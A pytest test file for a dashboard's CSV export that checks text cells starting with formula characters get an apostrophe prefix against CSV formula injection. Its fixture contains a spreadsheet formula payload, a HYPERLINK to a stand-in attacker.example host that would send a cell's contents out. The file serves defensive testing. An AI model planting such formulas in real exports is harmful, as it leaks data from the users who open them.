"""C19: CSV formula injection in downloads is neutralised for text cells only."""

import io
from pathlib import Path

import pandas as pd
import pytest

from dashboard.exports import ARTICLE_COLUMNS, TREND_COLUMNS, article_rows, to_csv_bytes, trend_rows

CASES = Path(__file__).resolve().parents[2].parent / "shared" / "cases"

TRICKY = pd.DataFrame({
    "outlet": ["Outlet A", "Outlet B", "Outlet C", "Outlet D", "Outlet E", "=Outlet F", "Outlet G"],
    "title": ['=HYPERLINK("https://attacker.example/?q="&A1,"Read more")', "+1 555 0100 press line opens",
              "-regime- the word they avoid", "@Ministry responds", "\tTab-led headline", "Plain headline",
              "\rCR-led, with a comma"],
    "score": [0.8, 0.1, -0.25, 0.0, 0.3, 1.0, -1.0],
    "n": [1, 2, -3, 0, 1, 1, 5],
})


def _read(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, dtype=str)


def test_bom_and_header_unchanged():
    data = to_csv_bytes(TRICKY)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data[3:].decode("utf-8").splitlines()[0] == "outlet,title,score,n"


@pytest.mark.parametrize("row, column, expected", [
    (0, "title", '\'=HYPERLINK("https://attacker.example/?q="&A1,"Read more")'),
    (1, "title", "'+1 555 0100 press line opens"),
    (2, "title", "'-regime- the word they avoid"),
    (3, "title", "'@Ministry responds"),
    (4, "title", "'\tTab-led headline"),
    (5, "outlet", "'=Outlet F"),
    (5, "title", "Plain headline"),
    (6, "title", "'\rCR-led, with a comma"),
])
def test_formula_leading_text_is_prefixed(row, column, expected):
    assert _read(to_csv_bytes(TRICKY)).loc[row, column] == expected


def test_numbers_untouched_and_unquoted():
    text = to_csv_bytes(TRICKY).decode("utf-8-sig")
    assert "\n'-" not in text.replace("'-regime", "")
    lines = text.splitlines()
    assert lines[3].endswith(",-0.25,-3")          # Outlet C: negative numbers as numbers
    assert lines[4].endswith(",0.0,0")
    back = _read(to_csv_bytes(TRICKY))
    assert back["score"].tolist() == ["0.8", "0.1", "-0.25", "0.0", "0.3", "1.0", "-1.0"]


def test_quoted_and_formula_leading_value():
    # C19 item 5: a value with a comma (so quoted) that also starts with '='.
    df = pd.DataFrame({"title": ["=SUM(1,2), then more"], "x": [-1.5]})
    text = to_csv_bytes(df).decode("utf-8-sig")
    assert text.splitlines()[1] == "\"'=SUM(1,2), then more\",-1.5"


def test_source_frame_not_modified():
    before = TRICKY.copy()
    to_csv_bytes(TRICKY)
    pd.testing.assert_frame_equal(TRICKY, before)   # C19 item 4: the app keeps the original text


def test_missing_values_are_empty_not_zero():
    df = pd.DataFrame({"outlet": ["A", "A"], "rate": [1.5, float("nan")], "who": ["x", None]})
    assert to_csv_bytes(df).decode("utf-8-sig").splitlines()[2] == "A,,"


def test_trend_rows_columns_and_dates():
    df = pd.DataFrame({"outlet": ["B", "A"], "period": pd.to_datetime(["2026-03-02", "2026-03-09"]),
                       "n_articles": [1, 0], "n_words": [10, 0], "n_mentions": [1.0, float("nan")],
                       "n_articles_with_mention": [1, 0], "rate_per_1k": [100.0, float("nan")],
                       "rate_low": [1.0, float("nan")], "rate_high": [200.0, float("nan")],
                       "share": [1.0, float("nan")], "share_low": [0.2, float("nan")],
                       "share_high": [1.0, float("nan")], "collected": pd.array([True, False], dtype="boolean"),
                       "status": ["ok", "not collected"], "extra": [1, 2]})
    rows = trend_rows(df)
    assert list(rows.columns) == TREND_COLUMNS
    assert rows["outlet"].tolist() == ["A", "B"] and rows["period"].tolist() == ["2026-03-09", "2026-03-02"]
    line = to_csv_bytes(rows).decode("utf-8-sig").splitlines()[1]
    assert line == "A,2026-03-09,0,0,,0,,,,,,,False,not collected"   # C13: a gap is empty, never 0


def test_case_file_c19():
    path = CASES / "C19" / "export_rows.csv"
    if not path.exists():
        pytest.skip(f"case file absent: {path.name}")
    rows = pd.read_csv(path)
    back = _read(to_csv_bytes(rows))
    assert back["outlet"].iloc[5] == "'=Outlet F"
    assert back["title"].iloc[5] == "Plain headline"
    assert all(t.startswith("'") for t in back["title"].iloc[:5])
    assert back["score"].tolist() == ["0.8", "0.1", "-0.25", "0.0", "0.3", "1.0"]


def test_article_rows_carry_syndication_c11():
    # The frame of pipelines.rollups.article_list (C11 item 5): wire copies share a cluster id.
    listed = pd.DataFrame({
        "article_id": ["o1", "w1", "w2"], "outlet": ["Outlet D", "Outlet A", "=Outlet B"],
        "published_at": pd.to_datetime(["2026-03-05 10:00", "2026-03-05 08:00", "2026-03-05 08:20"], utc=True),
        "title": ["Our view", "Drills begin", "Navy drills"], "url": ["https://d.example/1", None, None],
        "n_words": [9, 23, 23], "n_mentions": [1, 0, 0],
        "syndicated": pd.array([False, True, True], dtype="boolean"), "cluster_id": [None, "w1", "w1"]})
    rows = article_rows(listed)
    assert list(rows.columns) == ARTICLE_COLUMNS and ARTICLE_COLUMNS[-2:] == ["syndicated", "cluster_id"]
    assert rows["syndicated"].tolist() == [False, True, True]
    back = pd.read_csv(io.BytesIO(to_csv_bytes(rows)), encoding="utf-8-sig", keep_default_na=False)
    assert back["syndicated"].tolist() == [False, True, True]
    assert back["cluster_id"].tolist() == ["", "w1", "w1"]    # no cluster: an empty cell
    assert back["outlet"].tolist()[2] == "'=Outlet B"           # still neutralised
    assert list(listed.columns)[-1] == "cluster_id" and listed["syndicated"].dtype == "boolean"  # input untouched
